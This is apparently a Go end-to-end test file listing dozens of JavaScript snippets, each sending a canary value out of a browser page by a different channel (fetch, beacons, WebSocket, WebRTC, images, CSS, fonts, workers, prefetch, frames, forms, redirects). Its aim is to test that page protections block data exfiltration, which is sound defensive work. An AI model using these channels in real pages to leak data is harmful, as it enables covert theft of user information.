package e2e

// way is one way for a script to send something out. In its script, to is an
// address that holds the canary, base the same without it, and stun a place that
// answers to WebRTC; add puts an element in the page, submit sends a form.
type way struct {
	name   string
	script string
	leaves bool // the page goes elsewhere by it
}

// preamble is what the scripts of the ways are written in.
const preamble = `([base, canary, stun, script]) => {
	const to = base + "/x?" + canary
	const add = (tag, props) => {
		const e = Object.assign(document.createElement(tag), props)
		document.body.append(e)
		return e
	}
	const submit = props => {
		const form = add("form", props)
		form.append(Object.assign(document.createElement("input"), { name: "x", value: canary }))
		form.submit()
	}
	const call = Peer => {
		const peer = new Peer({ iceServers: [{ urls: "stun:" + stun }] })
		peer.createDataChannel(canary)
		peer.createOffer().then(offer => peer.setLocalDescription(offer))
	}
	try { `

const postamble = ` } catch {}
}`

// ways are the ways out that the browser of these tests has. Left out are those
// that the headless browser never takes, not even from a page that allows all, so
// that a test of them could not fail: dns-prefetch, preconnect, manifest, icon.
var ways = []way{
	{"fetch", `fetch(to).catch(() => {})`, false},
	{"fetch with a body", `fetch(base, { method: "POST", body: canary, mode: "no-cors" }).catch(() => {})`, false},
	{"fetch that outlives the page", `fetch(to, { keepalive: true, mode: "no-cors" }).catch(() => {})`, false},
	{"fetch later", `fetchLater(to, { activateAfter: 0 })`, false},
	{"XMLHttpRequest", `const x = new XMLHttpRequest(); x.open("GET", to); x.send()`, false},
	{"beacon", `navigator.sendBeacon(base, canary)`, false},
	{"WebSocket", `new WebSocket(to.replace("http", "ws"))`, false},
	{"EventSource", `new EventSource(to)`, false},
	{"ping of a link", `add("a", { href: "#here", ping: to }).click()`, false},

	{"image", `new Image().src = to`, false},
	{"image in SVG", `document.body.insertAdjacentHTML("beforeend", "<svg><image href='" + to + "'/></svg>")`, false},
	{"style sheet", `add("link", { rel: "stylesheet", href: to })`, false},
	{"style in the page", `add("style", { textContent: "body { background: url(" + to + ") }" })`, false},
	{"style of an element", `document.body.style.backgroundImage = "url(" + to + ")"`, false},
	{"font", `new FontFace("x", "url(" + to + ")").load().catch(() => {})`, false},
	{"video", `add("video", { src: to, preload: "auto" })`, false},
	{"audio", `add("audio", { src: to, preload: "auto" })`, false},
	{"object", `add("object", { data: to })`, false},
	{"embed", `add("embed", { src: to })`, false},
	{"other base", `add("base", { href: base }); new Image().src = "x?" + canary`, false},

	{"script", `add("script", { src: to })`, false},
	{"module", `add("script", { type: "module", src: to })`, false},
	{"import", `import(to).catch(() => {})`, false},
	{"worker", `new Worker(to)`, false},
	{"module worker", `new Worker(to, { type: "module" })`, false},
	{"worker of a blob", `new Worker(URL.createObjectURL(new Blob(["fetch('" + to + "')"])))`, false},
	{"shared worker", `new SharedWorker(to)`, false},
	{"service worker", `navigator.serviceWorker.register(to).catch(() => {})`, false},
	{"worklet", `CSS.paintWorklet.addModule(to).catch(() => {})`, false},

	{"prefetch", `add("link", { rel: "prefetch", href: to })`, false},
	{"preload", `add("link", { rel: "preload", as: "image", href: to })`, false},
	{"module preload", `add("link", { rel: "modulepreload", href: to })`, false},
	{"speculation rules", `add("script", { type: "speculationrules",
		textContent: JSON.stringify({ prefetch: [{ urls: [to], eagerness: "immediate" }] }) })`, false},

	{"frame", `add("iframe", { src: to })`, false},
	{"frame with its own page", `add("iframe", { srcdoc: "<img src='" + to + "'>" })`, false},
	{"fetch of an empty frame", `add("iframe", {}).contentWindow.fetch(to).catch(() => {})`, false},
	{"image of an empty frame", `new (add("iframe", {}).contentWindow.Image)().src = to`, false},

	{"new window", `window.open(to)`, false},
	{"link to a new window", `add("a", { href: to, target: "_blank" }).click()`, false},
	{"form to a new window", `submit({ action: to, method: "post", target: "_blank" })`, false},
	{"download", `add("a", { href: to, download: "x" }).click()`, true},
	{"form that is posted", `submit({ action: to, method: "post" })`, true},
	{"form that is asked", `submit({ action: base })`, true},
	{"link", `add("a", { href: to }).click()`, true},
	{"location", `location.href = to`, true},
	{"location replaced", `location.replace(to)`, true},
	{"refresh", `add("meta", { httpEquiv: "refresh", content: "0;url=" + to })`, true},
}
